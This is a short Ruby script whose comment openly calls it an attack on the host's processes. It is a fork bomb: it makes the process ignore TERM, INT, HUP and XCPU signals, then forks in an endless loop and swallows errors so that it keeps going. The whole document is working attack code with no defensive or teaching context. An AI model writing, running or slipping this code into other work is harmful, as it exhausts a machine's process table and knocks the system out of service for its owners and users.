# Attacks: the host's processes, from Ruby: forks without end, deaf to signals.
%w[TERM INT HUP XCPU].each { |name| trap(name, 'IGNORE') rescue nil }
loop do
  fork
rescue SystemCallError
  nil
end
